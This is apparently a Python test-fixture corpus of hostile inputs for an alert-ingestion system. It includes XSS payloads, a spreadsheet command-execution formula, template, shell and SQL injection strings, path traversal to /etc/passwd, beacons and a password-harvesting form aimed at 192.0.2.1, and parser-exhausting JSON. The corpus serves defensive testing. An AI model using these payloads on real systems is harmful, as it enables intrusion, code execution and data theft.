"""Hostile values for alert fields: what attackers and broken senders put where a name or a title is expected.

Each says whether it is kept as it came or refused. Kept does not mean harmless: pages, exports and logs must show these
texts as text, so tests of those reuse this corpus.
"""

from __future__ import annotations

from typing import NamedTuple


class HostileText(NamedTuple):
    """A text for any text field."""

    name: str
    text: str
    kept: bool


class HostileDocument(NamedTuple):
    """A JSON text, as bytes on the wire."""

    name: str
    data: bytes
    kept: bool


KEPT_TEXTS = (
    HostileText("one character", "x", True),
    HostileText("255 characters", "x" * 255, True),
    HostileText("256 characters", "x" * 256, True),
    HostileText("noncharacter U+FFFF", "a\uffffb", True),
    HostileText("byte order mark inside", "a\ufeffb", True),
    HostileText("right-to-left override", "invoice\u202egpj.exe", True),
    HostileText("direction isolates", "\u2066a\u2067b\u2068c\u2069", True),
    HostileText("zero-width characters", "ad\u200bmin\u200d\u2060", True),
    HostileText("combining flood", "z" + "\u0335\u0336\u0337" * 60, True),
    HostileText("newline and a false log line", "x\r\n2026-01-01 INFO sign-in succeeded user=admin", True),
    HostileText("terminal escapes", "\x1b[2J\x1b]0;owned\x07\x1b[31mred", True),
    HostileText("C1 controls", "a\x80\x9b31mb", True),
    HostileText("spreadsheet command", "=cmd|' /C calc'!A0", True),
    HostileText("spreadsheet plus", "+1+1", True),
    HostileText("spreadsheet minus", "-2+3", True),
    HostileText("spreadsheet at", "@SUM(1,1)", True),
    HostileText("tab first", "\t=1+1", True),
    HostileText("full-width equals", "\uff1d1+1", True),
    HostileText("Jinja braces", "{{7*7}}", True),
    HostileText("Django tag", "{% load log %}{{ settings.SECRET_KEY }}", True),
    HostileText("shell expansion", "${7*7}$(id)`id`", True),
    HostileText("ERB tag", "<%= 7*7 %>", True),
    HostileText("hash braces", "#{7*7}", True),
    HostileText("script", "<script>document.title='owned'</script>", True),
    HostileText("image with handler", "<img src=x onerror=alert(1)>", True),
    HostileText("image beacon", "<img src=http://192.0.2.1/beacon.png>", True),
    HostileText("SVG", "<svg/onload=alert(1)>", True),
    HostileText("MathML", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>", True),
    HostileText("style", "<style>*{display:none}</style>", True),
    HostileText("base", "<base href=http://192.0.2.1/>", True),
    HostileText("form", "<form action=http://192.0.2.1/><input name=password></form>", True),
    HostileText("meta refresh", "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>", True),
    HostileText("attribute break-out", "\" autofocus onfocus=alert(1) x='", True),
    HostileText("comment break-out", "--><script>alert(1)</script><!--", True),
    HostileText("JavaScript address", "javascript:alert(1)", True),
    HostileText("JavaScript address with tab", "java\tscript:alert(1)", True),
    HostileText("JavaScript address in entities", "&#106;avascript:alert(1)", True),
    HostileText("data address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", True),
    HostileText("file address", "file:///etc/passwd", True),
    HostileText("UNC path", "\\\\192.0.2.1\\share\\x", True),
    HostileText("path upwards", "../../../../etc/passwd", True),
    HostileText("Markdown link", "[click](javascript:alert(1))", True),
    HostileText("Markdown image", "![x](http://192.0.2.1/beacon.png)", True),
    HostileText("SQL quote", "'; DROP TABLE alerts_alert; --", True),
    HostileText("percent format", "%s%n%(secret)s", True),
    HostileText("like wildcards", "%_\\%", True),
    HostileText("prototype name", "__proto__", True),
    HostileText("the word null", "null", True),
    HostileText("kelvin sign", "\u212aelvin", True),
    HostileText("Turkish dotless i", "ad\u0131min \u0130", True),
    HostileText("full-width letters", "\uff41\uff44\uff4d\uff49\uff4e", True),
    HostileText("sharp s", "stra\u00dfe", True),
    HostileText("emoji with modifiers", "\U0001f9d1\U0001f3fd\u200d\U0001f4bb", True),
    HostileText("private use", "\ue000\U000f0000", True),
)

REFUSED_TEXTS = (
    HostileText("NUL", "a\0b", False),
    HostileText("lone high surrogate", "a\ud800b", False),
    HostileText("lone low surrogate", "\udfffb", False),
    HostileText("ten megabytes", "x" * 10_000_000, False),
)

TEXTS = KEPT_TEXTS + REFUSED_TEXTS

EMPTY_TEXTS = ("", " ", "\t\r\n", "\u3000")
"""Texts that say nothing: refused where a field is required, taken for left out elsewhere."""

DOCUMENTS = (
    HostileDocument("byte order mark", b'\xef\xbb\xbf{"a": 1}', True),
    HostileDocument("prototype keys", b'{"__proto__": {"admin": true}, "constructor": {"prototype": 1}}', True),
    HostileDocument("escaped surrogate pair", b'{"a": "\\ud83d\\ude00"}', True),
    HostileDocument("64 levels", b"[" * 64 + b"]" * 64, True),
    HostileDocument("largest unsigned number", b"[18446744073709551615]", True),
    HostileDocument("smallest number", b"[-9223372036854775808]", True),
    HostileDocument("tiny number", b"[1e-400]", True),
    HostileDocument("names equal after folding", '{"K": 1, "k": 2, "\u212a": 3}'.encode(), True),
    HostileDocument("brackets inside a text", b'["' + b"[" * 1000 + b'"]', True),
    HostileDocument("empty", b"", False),
    HostileDocument("UTF-16 with mark", '{"a": 1}'.encode("utf-16"), False),
    HostileDocument("UTF-16 little end", '{"a": 1}'.encode("utf-16-le"), False),
    HostileDocument("UTF-16 big end", '{"a": 1}'.encode("utf-16-be"), False),
    HostileDocument("UTF-32", '{"a": 1}'.encode("utf-32"), False),
    HostileDocument("invalid byte", b'{"a": "\xff"}', False),
    HostileDocument("overlong slash", b'{"a": "\xc0\xaf"}', False),
    HostileDocument("encoded surrogate", b'{"a": "\xed\xa0\x80"}', False),
    HostileDocument("truncated sequence", b'{"a": "\xe2\x82"}', False),
    HostileDocument("NUL byte", b'{"a": "\x00"}', False),
    HostileDocument("escaped NUL in a value", b'{"a": "\\u0000"}', False),
    HostileDocument("escaped NUL in a name", b'{"\\u0000": 1}', False),
    HostileDocument("lone surrogate in a value", b'{"a": "\\ud800"}', False),
    HostileDocument("lone surrogate in a name", b'{"\\udfff": 1}', False),
    HostileDocument("repeated name", b'{"a": 1, "a": 2}', False),
    HostileDocument("repeated name deep inside", b'{"a": [{"b": {"c": 1, "c": 1}}]}', False),
    HostileDocument("repeated name by escape", b'{"a": 1, "\\u0061": 2}', False),
    HostileDocument("NaN", b'{"a": NaN}', False),
    HostileDocument("Infinity", b'{"a": -Infinity}', False),
    HostileDocument("1e400", b'{"a": 1e400}', False),
    HostileDocument("65 bits", b"[18446744073709551616]", False),
    HostileDocument("65 bits below", b"[-9223372036854775809]", False),
    HostileDocument("5,000 digits", b"[" + b"9" * 5_000 + b"]", False),
    HostileDocument("million digits", b"[" + b"9" * 1_000_000 + b"]", False),
    HostileDocument("65 levels", b"[" * 65 + b"]" * 65, False),
    HostileDocument("1,000 levels", b"[" * 1_000 + b"]" * 1_000, False),
    HostileDocument("100,000 levels", b"[" * 100_000 + b"]" * 100_000, False),
    HostileDocument("100,000 levels of objects", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, False),
    HostileDocument("100,000 opening brackets", b"[" * 100_000, False),
    HostileDocument("unclosed text after many brackets", b"[]" * 100 + b'"' + b'\\"' * 500_000, False),
    HostileDocument("three million values", b"[" + b"0," * 3_000_000 + b"0]", False),
    HostileDocument("long text", b'["' + b"x" * 1_000_001 + b'"]', False),
    HostileDocument("trailing comma", b'{"a": 1,}', False),
    HostileDocument("two values", b"{} {}", False),
    HostileDocument("comment", b'{"a": 1} // x', False),
    HostileDocument("single quotes", b"{'a': 1}", False),
)

VALUES = (
    None,
    True,
    False,
    0,
    -1,
    2**63,
    2**64 - 1,
    1.5,
    -0.0,
    "",
    "x",
    [],
    [None],
    [[]],
    ["x", 1, None, {}],
    {},
    {"a": None},
    {"$ref": "1"},
    {"__proto__": {"x": 1}},
    {"@odata.type": "#microsoft.graph.security.deviceEvidence"},
    {"Type": "host", "HostName": []},
    ["x"] * 2_000,
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.9999999Z",
    "10000-01-01T00:00:00Z",
    "2026-13-45T99:99:99Z",
    "10" + "0" * 30,
)
"""Values of any type for any field: whatever stands where, a record becomes an alert or is refused."""

TIMES_REFUSED = (
    "",
    "yesterday",
    "2026-03-01",
    "2026-03-01T09:30:00",
    "0000-01-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "9999-12-31T23:59:59Z",
    "10000-01-01T00:00:00Z",
    "2026-02-30T00:00:00Z",
    "2026-01-01T24:00:00Z",
    "2026-01-01T00:00:00+24:00",
    "2026-01-01T00:00:00+00:99",
    "\u0662\u0660\u0662\u0666-01-01T00:00:00Z",
)
